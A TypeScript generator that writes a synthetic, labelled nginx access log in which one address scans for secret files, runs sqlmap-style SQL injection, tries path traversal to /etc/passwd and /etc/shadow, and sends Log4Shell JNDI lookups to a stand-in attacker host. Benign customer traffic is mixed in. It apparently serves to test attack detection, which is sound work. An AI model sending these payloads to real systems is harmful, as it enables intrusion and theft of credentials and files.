/** A web shop's nginx access log: customers, and one address that scans, injects and probes for Log4Shell. */
import type { Micros } from "@vedette/model";
import { type Scene, webStamp } from "./scene.ts";

const stream = "demo/web1/nginx/access.log";
const label = "web_attack";
const attacker = "198.51.100.23";

interface Request {
  readonly from: string;
  readonly method?: string;
  readonly path: string;
  readonly status: number;
  readonly bytes: number;
  readonly referrer?: string;
  readonly agent: string;
}

const line = (r: Request) => (time: Micros) =>
  `${r.from} - - [${webStamp(time)}] "${r.method ?? "GET"} ${r.path} HTTP/1.1" ${r.status} ${r.bytes} "${r.referrer ?? "-"}" "${r.agent}"`;

const scanner = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:006525)";
const sqlmap = "sqlmap/1.8.4#stable (https://sqlmap.org)";
const browser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

const probed = (
  "/.git/config /.env /admin/ /administrator/ /wp-login.php /phpmyadmin/ /server-status /cgi-bin/test.cgi /backup.sql /config.php.bak /.aws/credentials /.svn/entries " +
  "/manager/html /actuator/env /api/swagger.json /old/ /test.php /info.php /shell.php /uploads/cmd.php /web.config /.DS_Store /id_rsa /dump.sql.gz /console/ /solr/admin/"
).split(" ");
/** Written as sqlmap escapes them in a URL. */
const injected = [
  "1%27%20AND%20%271%27%3D%271",
  "1%20AND%201%3D2%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
  "-4218%20UNION%20ALL%20SELECT%20CONCAT%280x71%2Cuser%28%29%2C0x71%29%2CNULL--%20-",
  "1%29%20AND%20SLEEP%285%29--%20-",
  "1%27%20OR%20%271%27%3D%271",
  "1%20AND%20%28SELECT%202%20FROM%20%28SELECT%28SLEEP%285%29%29%29x%29",
  "-1%20UNION%20SELECT%20table_name%2C2%20FROM%20information_schema.tables--%20-",
  "1%3BSELECT%20PG_SLEEP%285%29--",
];
const climbing = [
  "/download?file=../../../../etc/passwd",
  "/download?file=..%2f..%2f..%2f..%2fetc%2fshadow",
  "/static/..%252f..%252f..%252fetc/passwd",
  "/download?file=....//....//....//etc/passwd",
  "/img/%2e%2e/%2e%2e/%2e%2e/%2e%2e/proc/self/environ",
];
const lookups = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: Log4j's look-ups, not ours
  "${jndi:ldap://198.51.100.23:1389/Basic/Command/Base64/aWQ=}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: Log4j's look-ups, not ours
  "${jndi:dns://198.51.100.23/x}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: Log4j's look-ups, not ours
  "${${lower:j}ndi:${lower:l}dap://198.51.100.23:1389/a}",
];

/** The attack runs from 20 % to 62 % of the story: scan, injection, traversal, Log4Shell. */
export function addWebAttack(scene: Scene): void {
  const { chance } = scene;
  const put = (at: number, request: Omit<Request, "from">) => scene.add(stream, at, line({ from: attacker, ...request }), label);
  for (let i = 0; i < 180; i++) {
    const path =
      i < probed.length
        ? probed[i]!
        : `/${chance.text(chance.whole(4, 9), "abcdefghijklmnopqrstuvwxyz")}${chance.pick([".php", ".asp", ".bak", "/", ".jsp"])}`;
    put(0.2 + (i / 180) * 0.14, { path, status: path === "/server-status" ? 403 : 404, bytes: 153, agent: scanner });
  }
  for (let i = 0; i < 120; i++) {
    const payload = injected[i % injected.length]!;
    const broken = chance.next() < 0.3;
    put(0.36 + (i / 120) * 0.12, {
      path: `/products?id=${payload}`,
      status: broken ? 500 : 200,
      bytes: broken ? 177 : chance.whole(4_000, 9_000),
      agent: sqlmap,
    });
  }
  for (let i = 0; i < 40; i++) {
    put(0.5 + (i / 40) * 0.06, {
      path: climbing[i % climbing.length]!,
      status: i % 5 === 0 ? 200 : 400,
      bytes: i % 5 === 0 ? 1_874 : 157,
      agent: browser,
    });
  }
  for (let i = 0; i < 12; i++) {
    const lookup = lookups[i % lookups.length]!;
    put(0.58 + (i / 12) * 0.04, {
      path: i % 2 === 0 ? `/search?q=${lookup}` : "/",
      status: 200,
      bytes: 5_120,
      referrer: i % 2 === 0 ? "-" : lookup,
      agent: i % 2 === 0 ? browser : lookup,
    });
  }
}

const agents = [
  browser,
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
];
const pages = [
  "/",
  "/products",
  "/cart",
  "/about",
  "/contact",
  "/search?q=telescope",
  "/search?q=select+a+lens",
  "/blog/union-square-opening",
  "/account",
];
const assets = ["/static/app.css", "/static/app.js", "/static/logo.svg", "/favicon.ico", "/static/font.woff2"];

/** About `count` requests of customers; some words of theirs look like SQL to a careless rule. */
export function addWebNoise(scene: Scene, count: number): void {
  const { chance } = scene;
  for (let i = 0; i < count; i++) {
    const asset = chance.next() < 0.45;
    const product = `/products?id=${chance.whole(1, 400)}`;
    const path = asset ? chance.pick(assets) : chance.next() < 0.4 ? product : chance.pick(pages);
    const bought = path === "/cart" && chance.next() < 0.5;
    const missing = chance.next() < 0.01;
    const request: Request = {
      from: `192.0.2.${chance.whole(1, 254)}`,
      method: bought ? "POST" : "GET",
      path: missing ? "/apple-touch-icon.png" : path,
      status: missing ? 404 : bought ? 302 : asset && chance.next() < 0.3 ? 304 : 200,
      bytes: missing ? 153 : chance.whole(300, 24_000),
      referrer: asset ? "https://shop.example/" : "-",
      agent: chance.pick(agents),
    };
    scene.add(stream, chance.next(), line(request));
  }
}
